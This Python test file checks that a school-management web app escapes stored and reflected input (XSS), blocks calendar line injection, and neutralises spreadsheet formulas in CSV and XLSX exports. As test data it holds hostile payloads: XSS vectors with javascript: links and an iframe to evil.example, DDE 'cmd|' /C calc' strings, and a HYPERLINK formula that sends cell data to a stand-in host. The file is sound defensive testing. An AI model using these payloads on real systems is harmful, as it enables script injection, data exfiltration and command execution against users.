"""XSS: every free-text field anyone can type is shown as text on every page that shows it.

The hostile school (attack_helpers.build_world) is made through the site's own forms: an admin
names an organisation and its coordinator, the coordinator names a group and a teacher, the
teacher pastes participants' names, a participant joins with a name, the coordinator plans a
session (place, notes), writes a local note, and later withdraws a certificate with a reason.
Usernames, join codes and check-in codes cannot hold markup (their formats are checked), so the
free-text fields below are all there is to attack (see the forms in housingschool/*/forms.py).
"""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from housingschool.content.render import render_markdown
from tests.security.attack_helpers import BREAKOUT, SCRIPT, VALUES, assert_inert, build_world

LESSON = "/modules/{lesson}"
GROUP = "/teach/groups/{group}"
SESSION = "/teach/sessions/{session}"

# field → every (who looks, page) that shows it. A page that stops showing the value fails the
# test too (the escaped text must be on it), so this list stays true.
COVERAGE = {
    "organisation_name": [
        ("admin", "/admin/organisations"), ("admin", "/admin/organisations/{org}"),
        ("admin", "/admin/audit"), ("coordinator", "/staff"), ("coordinator", "/staff/settings"),
        ("coordinator", "/local-notes/{lesson}"), ("participant", LESSON),
        ("participant", "/my/data"), ("added", "/my/data/delete"),
        ("participant", "/my/certificates"), ("participant", "/certificates/{number}"),
        ("anonymous", "/verify/{code}"), ("anonymous", "/join/{join_code}")],
    "coordinator_name": [
        ("admin", "/admin/organisations/{org}"), ("admin", "/admin/audit"),
        ("coordinator", "/staff")],
    "staff_name": [
        ("coordinator", "/staff"), ("coordinator", "/staff/{teacher}/groups"),
        ("coordinator", "/staff/{teacher}/deactivate"), ("admin", "/admin/audit")],
    "group_name": [
        ("teacher", "/teach/"), ("teacher", GROUP), ("teacher", GROUP + "/join-sheet"),
        ("teacher", GROUP + "/participants/add"), ("teacher", GROUP + "/progress"),
        ("teacher", GROUP + "/sessions/new"), ("teacher", GROUP + "/live"),
        ("teacher", SESSION), ("teacher", SESSION + "/sheet"), ("teacher", SESSION + "/edit"),
        ("coordinator", "/reports/"), ("coordinator", "/reports/groups/{group}"),
        ("coordinator", "/reports/participants/{joined}"), ("coordinator", "/reports/hours"),
        ("coordinator", "/reports/completion"), ("coordinator", "/staff"),
        ("coordinator", "/staff/{teacher}/groups"),
        ("coordinator", "/privacy/participants/{joined}"), ("participant", "/sessions"),
        ("anonymous", "/join/{join_code}")],
    "joined_name": [
        ("participant", "/"), ("teacher", GROUP), ("teacher", GROUP + "/progress"),
        ("teacher", SESSION), ("teacher", SESSION + "/sheet"),
        ("coordinator", "/reports/groups/{group}"),
        ("coordinator", "/reports/participants/{joined}"), ("coordinator", "/reports/hours"),
        ("coordinator", "/certificates"),
        ("coordinator", "/certificates/participants/{joined}"),
        ("coordinator", "/certificates/{number}"), ("coordinator", "/certificates/{number}/revoke"),
        ("coordinator", "/privacy/requests"), ("coordinator", "/privacy/participants/{joined}"),
        ("coordinator", "/privacy/participants/{joined}/anonymise"),
        ("participant", "/certificates/{number}"), ("admin", "/admin/audit")],
    "added_name": [
        ("added", "/"), ("teacher", GROUP), ("teacher", GROUP + "/progress"),
        ("teacher", SESSION), ("teacher", SESSION + "/sheet"),
        ("coordinator", "/reports/groups/{group}"), ("coordinator", "/reports/hours")],
    "session_place": [
        ("teacher", GROUP), ("teacher", SESSION), ("teacher", SESSION + "/sheet"),
        ("teacher", SESSION + "/edit"), ("participant", "/sessions")],
    "session_notes": [("teacher", SESSION), ("teacher", SESSION + "/edit")],
    "local_note": [("participant", LESSON), ("coordinator", "/local-notes/{lesson}")],
}


@pytest.fixture
def world(app, factory, client_for):
    return build_world(app, factory, client_for)


@pytest.mark.parametrize("field", sorted(COVERAGE))
def test_stored_field_is_shown_as_text_on_every_page(world, field):
    value = VALUES[field]
    for role, template in COVERAGE[field]:
        url = world.url(template)
        response = world.browsers[role].get(url)
        assert response.status_code == 200, f"{role} {url}: {response.status_code}"
        assert_inert(response.get_data(as_text=True), value, f"{field} as {role} on {url}")


def test_revoke_reason_is_text_for_staff_and_hidden_from_the_holder(world):
    coordinator = world.browsers["coordinator"]
    number, reason = world.ids["number"], VALUES["revoke_reason"]
    revoked = coordinator.post_form(f"/certificates/{number}/revoke", {"reason": reason})
    assert revoked.status_code == 302
    for role, template in [("coordinator", "/certificates"),
                           ("coordinator", "/certificates/participants/{joined}"),
                           ("admin", "/admin/audit")]:
        body = world.browsers[role].get(world.url(template)).get_data(as_text=True)
        assert_inert(body, reason, f"revoke_reason as {role} on {template}")
    # "Only staff of your organisation see the reason."
    for role, template in [("participant", "/my/certificates"),
                           ("participant", "/certificates/{number}"),
                           ("anonymous", "/verify/{code}")]:
        body = world.browsers[role].get(world.url(template)).get_data(as_text=True)
        assert "RZQ" not in body, f"reason shown on {template}"


# Query strings and form fields a page prints back (a link in a phishing mail needs no account).
REFLECTED = [
    ("anonymous", "/login", "username"), ("anonymous", "/login/pictures", "username"),
    ("anonymous", "/join", "code"), ("anonymous", "/reset", "username"),
    ("anonymous", "/language", "next"), ("coordinator", "/reports/", "start"),
    ("coordinator", "/reports/hours", "end"), ("admin", "/admin/audit", "action"),
    ("admin", "/admin/audit", "start"),
]


@pytest.mark.parametrize(("role", "path", "name"), REFLECTED)
def test_query_values_printed_back_are_text(world, role, path, name):
    value = "/" + SCRIPT + BREAKOUT
    response = world.browsers[role].get(path, query_string={name: value})
    assert response.status_code in (200, 422)
    assert_inert(response.get_data(as_text=True), value, f"{path}?{name}=")


@pytest.mark.parametrize("path", ["/login", "/reset"])
def test_typed_username_shown_again_after_a_mistake_is_text(world, path):
    value = SCRIPT + BREAKOUT
    anonymous = world.browsers["anonymous"]
    response = anonymous.post_form(path, {"username": value, "secret": "wrong-pass-1",
                                          "code": "AAAA-BBBB-CCCC", "confirm": "wrong-pass-1"})
    assert response.status_code in (401, 422)
    assert_inert(response.get_data(as_text=True), value, path)


def test_files_and_json_carry_values_as_data_not_markup(world):
    participant = world.browsers["participant"]
    download = participant.get("/my/data/download")
    assert download.mimetype == "application/json"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Disposition"].startswith("attachment")
    data = json.loads(download.get_data(as_text=True))
    assert data["profile"]["name"] == VALUES["joined_name"]  # stored as typed, not mangled
    pdf = participant.get(world.url("/certificates/{number}.pdf"))
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
    for role, url in [("participant", "/live/state.json"),
                      ("teacher", world.url(GROUP + "/live/state.json"))]:
        state = world.browsers[role].get(url)
        assert state.mimetype == "application/json" and b"alert(1)" not in state.data


def test_calendar_file_cannot_be_given_extra_lines(world):
    teacher = world.browsers["teacher"]
    edit = world.url(SESSION + "/edit")
    place = "Room 1\r\nATTENDEE:mailto:evil@example.com\r\nEND:VEVENT"
    day = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert teacher.post_form(edit, {"day": day, "start": "10:00", "end": "11:00",
                                    "place": place}).status_code == 302
    body = teacher.get(world.url("/groups/{group}/calendar.ics")).get_data(as_text=True)
    lines = body.splitlines()
    assert not any(line.startswith("ATTENDEE") for line in lines)
    assert sum(line == "END:VEVENT" for line in lines) == 1


# A spreadsheet runs a cell that starts with one of = + - @ (or a tab) as a formula: a name
# like =HYPERLINK(...) in an export would send data away when a coordinator opens the file.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def formula_school(factory, client):
    group = factory.group(name="=cmd|' /C calc'!A0", join_code="FORMULA1")
    session = factory.session(group)
    for number, name in enumerate(FORMULAS):
        person = factory.user(f"p{number}xx", group=group, display_name=name)
        factory.attendance(session, person)
    factory.user("kari", "coordinator", "long-enough-1", organisation=group.organisation)
    assert client.login("kari", "long-enough-1").status_code == 302
    day = session.starts_at.date().isoformat()
    return {"start": day, "end": day}


@pytest.mark.parametrize("report", ["/reports/completion", "/reports/hours"])
def test_exports_never_start_a_cell_with_a_formula(formula_school, client, report):
    query = formula_school if report.endswith("hours") else {}
    text = client.get(report, query_string={**query, "format": "csv"}).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
             for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells), cells
    assert all(f"'{name}" in cells for name in FORMULAS)  # still readable, as text
    book = load_workbook(io.BytesIO(client.get(report, query_string={
        **query, "format": "xlsx"}).data))
    values = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.value for c in values if c.data_type == "f"], "a formula cell in the XLSX"
    assert all(f"'{name}" in [c.value for c in values] for name in FORMULAS)


def test_course_markdown_is_sanitised():
    """Local notes and session notes are plain text; Markdown is only the course content
    (files reviewed in the repository), and even that goes through nh3's allow-list."""
    hostile_lesson = "\n\n".join([
        SCRIPT, BREAKOUT, "<svg onload=alert(1)>", "<iframe src=//evil.example></iframe>",
        "[x](javascript:alert(1))", '<a href="jAvAsCrIpT:alert(1)">y</a>',
        "[z](data:text/html;base64,PHNjcmlwdD4=)", "![p](javascript:alert(1))",
        '<p style="background:url(//evil.example)" onclick="alert(1)">p</p>',
        "<style>body{}</style>", "<form action=//evil.example><input></form>"])
    html = render_markdown(hostile_lesson, "waste")
    assert_inert(html)
    for bad in ("<iframe", "<style", "<form", "<input", "javascript:", "data:", "onclick",
                "style=", "evil.example"):
        assert bad not in html.lower(), bad
